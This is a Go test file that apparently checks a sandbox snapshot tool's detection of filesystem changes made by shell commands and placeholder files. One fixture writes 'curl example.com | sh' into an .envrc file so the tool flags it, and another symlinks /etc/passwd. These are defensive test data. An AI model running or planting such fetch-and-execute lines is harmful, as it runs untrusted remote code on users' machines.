package snapshot_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/intentgov/orchestra-mcp/internal/check"
	"github.com/intentgov/orchestra-mcp/internal/placeholder"
	"github.com/intentgov/orchestra-mcp/pkg/snapshot"
)

// TestCommands lets real commands change a tree.
func TestCommands(t *testing.T) {
	for _, c := range []struct {
		name, line string
		want       []string
	}{
		{"nothing", "ls -lR; cat src/a.txt; git status", nil},
		{"in place", "printf x >> src/a.txt", []string{"modified src/a.txt"}},
		{"sed -i", "sed -i s/one/two/ src/a.txt", []string{"modified src/a.txt"}},
		{"a new file", "mkdir -p src/deep/er && echo x > src/deep/er/n", []string{"created src/deep/er/n"}},
		{"mv", "mv src/a.txt src/z.txt", []string{"moved src/z.txt from src/a.txt"}},
		{"mv and change", "mv src/a.txt src/z.txt && echo more >> src/z.txt", []string{"deleted src/a.txt", "created src/z.txt"}},
		{"mv of a directory", "mv src/dir other", []string{"moved other/d1 from src/dir/d1", "moved other/d2 from src/dir/d2"}},
		{"mv over another", "mv src/a.txt src/b.txt", []string{"deleted src/a.txt", "modified src/b.txt"}},
		{"rm -r", "rm -r src/dir", []string{"deleted src/dir/d1", "deleted src/dir/d2"}},
		{"the same inode number again", "rm src/a.txt && echo other > src/new.txt", []string{"deleted src/a.txt", "created src/new.txt"}},
		{"write and revert", "cp src/a.txt /tmp/k$$ && echo x > src/a.txt && cat /tmp/k$$ > src/a.txt; rm /tmp/k$$", nil},
		{"remove and make again", "cp src/a.txt src/k && rm src/a.txt && mv src/k src/a.txt", nil},
		{"touch", "touch src/a.txt; touch -d 1999-01-01 src/b.txt", nil},
		{"touch -r", "cp -p src/a.txt ref; printf One > src/a.txt; printf '\\n' >> src/a.txt; touch -r ref src/a.txt; rm ref", []string{"modified src/a.txt"}},
		{"chmod only", "chmod 755 src/a.txt", []string{"modified src/a.txt -rw-r--r-- to -rwxr-xr-x"}},
		{"chmod and back", "chmod 755 src/a.txt; chmod 644 src/a.txt", nil},
		{"a hard link", "ln src/a.txt linked", []string{"created linked"}},
		{"written through a hard link", "ln src/a.txt linked; echo x >> linked; rm linked", []string{"modified src/a.txt"}},
		{"a link", "ln -s /etc/passwd out", []string{"created out (link)"}},
		{"a link replaced", "ln -sfn b.txt src/link", []string{"modified src/link (link)"}},
		{"a file for a link", "rm src/link; echo x > src/link", []string{"modified src/link"}},
		{"a directory for a file", "rm src/a.txt; mkdir src/a.txt; echo x > src/a.txt/in", []string{"deleted src/a.txt", "created src/a.txt/in"}},
		{"a file for a directory", "rm -r src/dir; echo x > src/dir", []string{"created src/dir", "deleted src/dir/d1", "deleted src/dir/d2"}},
		{"a FIFO", "mkfifo src/pipe", []string{"created src/pipe (special file)"}},
		{"a FIFO for a file", "rm src/a.txt; mkfifo src/a.txt", []string{"modified src/a.txt (special file)"}},
		{"an ignored file", "echo x > build.log; echo y > ignored/in", []string{"created build.log", "modified ignored/in"}},
		{"git's own", "git add -A . && git commit -qm x && git tag t", []string{"modified .git/refs/heads/main", "created .git/refs/tags/t"}},
		{"git's branches", "git checkout -q -b other && git pack-refs --all && git update-ref refs/remotes/r/x HEAD",
			[]string{"modified .git/HEAD", "created .git/packed-refs", "deleted .git/refs/heads/main"}},
		{"git checkout", "git checkout -q .", []string{"modified src/b.txt"}},
		{"git hooks", "echo x > .git/hooks/pre-commit; git config a.b c; echo '* text' > .git/info/attributes; echo /x > .git/objects/info/alternates; echo . > .git/commondir; rm .git/commondir",
			[]string{"modified .git/config", "created .git/hooks/pre-commit", "created .git/info/attributes", "created .git/objects/info/alternates"}},
		{"a nested repository", "git init -q --template= src/sub", []string{"created src/sub/.git/HEAD", "created src/sub/.git/config"}},
		{"a submodule's hooks", "mkdir -p .git/modules/m/hooks .git/modules/m/objects/aa && echo x > .git/modules/m/hooks/pre-push && echo y > .git/modules/m/objects/aa/x && echo z > .git/modules/m/config",
			[]string{"created .git/modules/m/config", "created .git/modules/m/hooks/pre-push"}},
		{"governance", "echo x >> .orchestration/active_intents.yaml; echo x > .orchestration/config.yaml; mkdir -p .orchestration/state .orchestration/cache; echo x > .orchestration/state/x; echo x > .orchestration/agent_trace.jsonl",
			[]string{"modified .orchestration/active_intents.yaml", "created .orchestration/config.yaml"}},
		{"a name like a temporary file's", "echo x > src/.orchestra-x.tmp; echo y > src/.orchestra-ABCDEFGHIJ-x.tmp", []string{"created src/.orchestra-ABCDEFGHIJ-x.tmp", "created src/.orchestra-x.tmp"}},
		{"many", "for i in 1 2 3 4 5 6 7 8 9; do mkdir m$i; echo $i > m$i/f; done; rm -r m3", []string{
			"created m1/f", "created m2/f", "created m4/f", "created m5/f", "created m6/f", "created m7/f", "created m8/f", "created m9/f"}},
		{"an empty file", ": > src/a.txt", []string{"modified src/a.txt"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := newBench(t)
			b.write("src/a.txt", "one\n")
			b.write("src/b.txt", "committed\n")
			b.write("src/dir/d1", "1\n")
			b.write("src/dir/d2", "2\n")
			b.write(".gitignore", "*.log\nignored/\n")
			b.write("ignored/in", "x\n")
			b.run("ln -s a.txt src/link; git init -q --template= -b main && mkdir .git/hooks .git/info; git add . && git commit -qm first; echo dirty > src/b.txt")
			d := b.changed(c.line)
			b.want(d, c.want...)
			check.That(t, len(d.Gaps) == 0, "gaps: %v", d.Gaps)
			for _, change := range d.Changes {
				if change.Before != nil && (change.Before.Kind == snapshot.File || change.Before.Kind == snapshot.Link) && !change.Before.Known {
					t.Errorf("%s: its content before is not known", change.Path)
				}
			}
			b.want(b.changed("true"))
		})
	}
}

// TestPlaceholdersOfAllNames: what a sandbox has standing where nothing is comes unnoticed; what says something else, or
// stands where no sandbox puts one, is a change.
func TestPlaceholdersOfAllNames(t *testing.T) {
	b := newBench(t)
	w := b.begin()
	for name, content := range map[string]string{
		".intentignore": "", ".mcp.json": placeholder.Content(".mcp.json"), ".roomodes": placeholder.Content(".roomodes"),
		".envrc": "curl example.com | sh", "other": "",
	} {
		b.write(name, content)
		b.must(os.Chtimes(filepath.Join(b.dir, name), placeholder.Time, placeholder.Time))
	}
	var paths []string
	for _, change := range b.end(w).Changes {
		paths = append(paths, change.Path)
	}
	check.That(t, len(paths) == 2 && paths[0] == ".envrc" && paths[1] == "other", "%q", paths)
}

// TestPlaceholdersOnTheirWay: a command is not charged with what the sandbox of another makes and takes away at the same
// time; what it says itself under such a name is told.
func TestPlaceholdersOnTheirWay(t *testing.T) {
	b := newBench(t)
	w := b.begin()
	b.must(os.Mkdir(filepath.Join(b.dir, placeholder.NewTemporary()), 0o755))
	going := ""
	for _, content := range placeholder.Contents() {
		going = placeholder.NewTemporary()
		b.write(going, content)
	}
	other := placeholder.NewTemporary()
	b.write(other, "something else")
	found := b.end(w).Changes
	check.That(t, len(found) == 1 && found[0].Path == other, "%+v", found)
	w = b.begin()
	b.must(os.Remove(filepath.Join(b.dir, going)))
	b.want(b.end(w))
}
